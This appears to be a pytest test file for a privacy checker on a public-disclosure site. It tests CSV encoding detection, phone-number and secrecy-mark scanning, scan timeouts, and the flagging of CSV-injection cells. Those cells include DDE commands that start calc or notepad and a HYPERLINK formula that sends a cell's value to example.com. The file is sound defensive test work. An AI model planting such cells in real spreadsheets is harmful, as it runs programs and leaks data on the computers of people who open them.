"""CSV and text files in every common encoding."""

from __future__ import annotations

import codecs
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gongkai.checks import privacy
from gongkai.readers.text import decode_text

from ..samples import (
    MARK,
    findings,
    planted,
)


@pytest.mark.parametrize("encoding, bom", [("utf-8", b""), ("utf-8", codecs.BOM_UTF8), ("utf-16-le", codecs.BOM_UTF16_LE),
                                           ("utf-16-be", codecs.BOM_UTF16_BE), ("utf-16-le", b""), ("gb18030", b""),
                                           ("utf-32-le", codecs.BOM_UTF32_LE)])
def test_csv_in_every_encoding(site, encoding, bom):
    text = f"姓名,联系电话,备注\n张三,{planted(1)},{MARK}\n"
    mobiles, marks = findings(site, "a.csv", bom + text.encode(encoding))
    assert [p.message for p in mobiles] and "第 2 行" in mobiles[0].message
    assert marks


def test_a_utf32_mark_before_a_utf16_table_hides_nothing(site):
    """FF FE 00 00 is UTF-32LE's mark, and UTF-16LE's followed by a NUL to a reader without UTF-32 (a browser, by
    WHATWG's rules): read as UTF-32 only, the table in clear UTF-16 was replacement characters, scanned for nothing."""
    text = f"\0姓名,联系电话,备注\n张三,{planted(1)},{MARK}\n"
    mobiles, marks = findings(site, "a.csv", codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    assert [p.message for p in mobiles] and marks


def test_a_big5_table_is_read_as_big5_too(site):
    """GB18030 reads nearly any bytes: a table saved on a Traditional Chinese system (Big5) was scanned as nonsense,
    and 機密★5年 passed, though every reader there sees it. (A GBK table reads as Big5 too: test_privacy's.)"""
    text = f"姓名,說明\n張三,機密★5年 聯繫電話 {planted(1)}\n"
    mobiles, marks = findings(site, "a.csv", text.encode("big5hkscs"))
    assert len(mobiles) == 1 and "第 2 行" in mobiles[0].message and marks  # the number once, as both readings show it


def test_decode_text_detects_encodings():
    text = "关于公布2021年农村危房改造补助对象名单的公示，联系人张三。" * 3
    for encoding in ("utf-8", "gb18030", "utf-16-le", "utf-16-be", "big5"):
        try:
            data = text.encode(encoding)
        except UnicodeEncodeError:
            continue
        decoded = decode_text(data)
        assert "农村危房改造" in decoded or encoding == "big5" and decoded


_RUN = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0",
        "+WEBSERVICE(\"http://example.com\")", "-2+3+cmd|' /C notepad'!A0", "\t=IMPORTXML(A1,\"//a\")",
        "＝HYPERLINK（\"http://example.com\"）", " =DDE(\"cmd\",\"/C calc\",\"x\")"]


@pytest.mark.parametrize("cell", _RUN)
@pytest.mark.parametrize("encoding", ["utf-8", "gb18030", "utf-16"])
def test_a_csv_cell_a_spreadsheet_runs_is_an_error(site, cell, encoding):
    """Downloaded and opened in Excel or WPS, a cell that starts as a formula and calls something fetches a web
    address, sends the table's cells elsewhere or starts a program (CSV injection): a table published for the public
    must hold none. Quoted or not, in any encoding, in a zip or not."""
    from gongkai.checks import privacy

    quoted = '"' + cell.replace('"', '""') + '"'
    site.attach("a.csv", f"姓名,金额,备注\n张三,100,{quoted}\n".encode(encoding))
    site.item(attachments=[{"title": "名单", "file": "a.csv"}])
    [problem] = site.problems(privacy.FORMULA.code)
    assert "第 2 行第 3 列" in problem.message and problem.is_error


def test_a_csv_cell_a_spreadsheet_runs_is_found_inside_a_zip(site):
    from gongkai.checks import privacy

    from ..samples import office_zip

    site.attach("a.zip", office_zip({"名单/表.csv": "姓名,备注\n张三,=cmd|' /C calc'!A0\n".encode()}))
    site.item(attachments=[{"title": "名单", "file": "a.zip"}])
    [problem] = site.problems(privacy.FORMULA.code)
    assert "表.csv" in problem.message and "第 2 行第 2 列" in problem.message


@pytest.mark.parametrize("cell", ["-5", "+86 138 0000 0000", "=A1", "-", "——", "=", "@张三", "-（注：不含税）", "a=b(c)", "1|2"])
def test_a_csv_cell_that_calls_nothing_is_let_be(site, cell):
    from gongkai.checks import privacy

    site.attach("a.csv", f"姓名,备注\n张三,{cell}\n".encode())
    site.item(attachments=[{"title": "名单", "file": "a.csv"}])
    assert site.problems(privacy.FORMULA.code) == []


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_a_formula_that_builds_a_number_or_a_mark_of_pieces_is_read_as_it_shows(site, name):
    """`="139"&"0000"&"0001"` shows a phone number and `="机"&UNICHAR(23494)&"★"` shows 机密★: read as written,
    neither was found, in a CSV (Excel and WPS evaluate its formulas on opening) or in a workbook."""
    from ..samples import xlsx_with

    number = planted(1)
    phone = f'="{number[:3]}"&"{number[3:7]}"&{number[7:]}'
    mark = '="机"&UNICHAR(23494)&"★"'
    data = f"姓名,联系电话\n张三,{phone}\n密级,{mark}\n".encode() if name == "a.csv" else xlsx_with(phone)
    mobiles, marks = findings(site, name, data)
    assert [p.message for p in mobiles]
    assert marks or name == "a.xlsx"


def test_a_text_the_scans_cannot_finish_in_time_is_an_error(site, monkeypatch):
    """Digits made to look like numbers everywhere ("1<tab>" a million times in a 32 KB workbook) cost the scans
    92 s and 1.5 GB, again for every changed byte: past the scans' time the file is GK307, never passed."""
    import time

    from gongkai.checks import attached

    monkeypatch.setattr(attached, "SCAN_SECONDS", 0.5)
    site.attach("a.csv", ("1\t" * 400_000 + "\n").encode())
    site.item(attachments=[{"title": "材料", "file": "a.csv"}])
    started = time.monotonic()
    problems = [p for p in site.check() if p.code == privacy.UNREADABLE.code]
    assert time.monotonic() - started < 30
    assert [p.code for p in problems] == [privacy.UNREADABLE.code] and "扫描超过 0.5 秒" in problems[0].message


def test_an_attachment_too_slow_to_scan_is_judged_again_at_every_check(site, monkeypatch):
    """How long a file's scans take depends on the machine and on the run (once slow files spent the budget, each
    later one has 2 s): its GK307 is not kept by the item cache, which kept an item refused after its decoys had gone
    (rt36 F2), as no file is kept found clean that was not scanned to its end."""
    from gongkai.checks import attached
    from gongkai.checks.parallel import check_site
    from gongkai.site_config import load_settings

    site.attach("a.csv", ("1\t" * 400_000 + "\n").encode())
    item = site.item(attachments=[{"title": "材料", "file": "a.csv"}])
    settings = load_settings(site.root)
    monkeypatch.setattr(attached, "SCAN_SECONDS", 0.5)
    for _ in range(2):  # the second check reads the item cache the first one filled
        problems = check_site(site.root, site.content, site.today, settings=settings).problems
        assert privacy.UNREADABLE.code in {p.code for p in problems if p.path == site.rel(item)}
    monkeypatch.setattr(attached, "SCAN_SECONDS", 600.0)  # time enough: read to its end
    problems = check_site(site.root, site.content, site.today, settings=settings).problems
    assert privacy.UNREADABLE.code not in {p.code for p in problems}


def test_an_attachment_the_lexicon_cannot_read_in_time_is_an_error(site, monkeypatch):
    """The lexicon reads an attachment's text within the file's time too: past it the file is GK307, never passed with
    its words unread. Its reading is made slow here by waiting before the real one starts."""
    from gongkai.checks import attached

    real = attached.find_words

    def slow_words(*args):
        end = time.monotonic() + 5
        while time.monotonic() < end:  # pure bytecode, as a reading made slow by its text would spend its time
            pass
        return real(*args)

    monkeypatch.setattr(attached, "SCAN_SECONDS", 1.0)
    monkeypatch.setattr(attached, "find_words", slow_words)
    site.attach("a.csv", "姓名,说明\n张三,材料\n".encode())
    item = site.item(attachments=[{"title": "材料", "file": "a.csv"}])
    started = time.monotonic()
    problems = [p for p in site.check() if p.path == site.rel(item) and p.code == privacy.UNREADABLE.code]
    assert time.monotonic() - started < 4.5
    assert len(problems) == 1 and "查找错敏用语超过 1 秒" in problems[0].message, problems


@given(st.text(alphabet=st.sampled_from('"=&()0123456789CHARUNIchar, A$._x机密★'), max_size=200))
def test_what_a_formula_shows_is_only_what_it_holds(formula):
    """Any formula, however malformed, gives text built only of its own constants and the characters its codes name."""
    from gongkai.readers.text import formula_shows

    shown = formula_shows(formula)
    assert all(ch in formula or ch.isprintable() for ch in shown)
    assert sum(ch.isdigit() for ch in shown) <= sum(ch.isdigit() for ch in formula)


@pytest.mark.parametrize("piece", ['"', '""', '"a', "CHAR(", "UNICHAR(9999999)", "1", "A1&", '"1"&'])
def test_a_formula_is_read_in_time_linear_in_its_length(piece):
    from gongkai.readers.text import formula_shows

    started = time.process_time()
    formula_shows("=" + piece * 200_000)
    assert time.process_time() - started < 2


@pytest.mark.parametrize("cell", ["0013912345678", '"13,912,345,678"', " 13912345678 ", "=139*100000000+12345678",
                                  "=(1391234*10000)+5678"])
def test_a_csv_field_is_read_as_the_number_a_spreadsheet_makes_of_it(site, cell):
    """A spreadsheet opening a CSV drops leading zeros and thousands separators and computes arithmetic: the reader
    sees 13912345678, named once."""
    mobiles, _ = findings(site, "a.csv", f"项目,值\n电话,{cell}\n".encode())
    assert len(mobiles) == 1 and "第 2 行" in mobiles[0].message


def test_an_ordinary_csv_is_read_once(site):
    mobiles, _ = findings(site, "a.csv", "姓名,电话,金额,编号\n张三,13912345678,\"1,234.50\",007\n".encode())
    assert len(mobiles) == 1 and "第 2 行" in mobiles[0].message
    assert site.problems(privacy.NOT_SCANNED.code) == []


@pytest.mark.parametrize("formula, result", [("139*100000000+12345678", "13912345678"), ("-(1+2)*3", "-9"), ("10/4", "2.5"),
                                             ("1/3", "0.333333333333333"), ("1/0", None), ("A1+1", None), ("1+", None),
                                             ("(((1)))", "1"), ("2^3", None), ("(" * 40 + "1" + ")" * 40, None)])
def test_arithmetic_is_worked_out_only_for_number_constants(formula, result):
    from gongkai.readers.text import arithmetic

    assert arithmetic(formula) == result


@given(st.text(alphabet=st.sampled_from("0123456789.eE+-*/() "), max_size=300))
def test_any_arithmetic_is_worked_out_without_error_and_in_time(formula):
    from gongkai.readers.text import arithmetic

    started = time.process_time()
    arithmetic(formula)
    assert time.process_time() - started < 1
